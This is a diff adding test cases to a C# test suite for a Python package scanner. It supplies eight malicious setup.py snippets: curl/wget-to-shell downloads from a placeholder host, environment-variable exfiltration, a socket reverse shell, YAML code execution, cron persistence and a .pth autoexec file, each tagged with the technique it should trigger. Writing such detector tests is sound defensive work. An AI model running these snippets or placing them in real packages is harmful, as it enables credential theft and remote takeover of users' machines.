@@ -67,6 +67,22 @@ public sealed class TechniqueFamilyTests
         Assert.True(report.Has("persistence"), Findings(report));
     }
 
+    [Theory]
+    [InlineData("import subprocess\nsp = subprocess\nsp.Popen(['sh', '-c', 'curl -s http://x.invalid/a | sh'])\n", "download-execute")]
+    [InlineData("_m = __import__(''.join(['o', 's']))\n_m.system('wget -qO- http://x.invalid/a | sh')\n", "download-execute")]
+    [InlineData("import ctypes\nctypes.CDLL('libc.so.6').system(b'curl -s http://x.invalid/a | sh')\n", "download-execute")]
+    [InlineData("import subprocess, os, json\nsubprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/e'])\n", "credential-exfiltration")]
+    [InlineData("import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n", "reverse-shell")]
+    [InlineData("import yaml\nyaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.Loader)\n", "obfuscated-exec")]
+    [InlineData("from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://x.invalid/c | sh').minute.every(5)\ncron.write()\n", "persistence")]
+    [InlineData("import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz_init.pth'), 'w') as f:\n    f.write('import os; os.system(\"id\")\\n')\n", "pth-autoexec")]
+    public async Task Other_forms_of_the_same_techniques_are_caught(string setup, string check)
+    {
+        var report = await Packages.ScanSdistAsync(("setup.py", setup));
+        Assert.True(report.Has(check), Findings(report));
+        Assert.NotEqual(Verdict.Benign, report.Verdict);
+    }
+
     [Fact]
     public async Task A_pth_line_importing_a_package_module_inherits_that_modules_load_time_behaviour()
     {
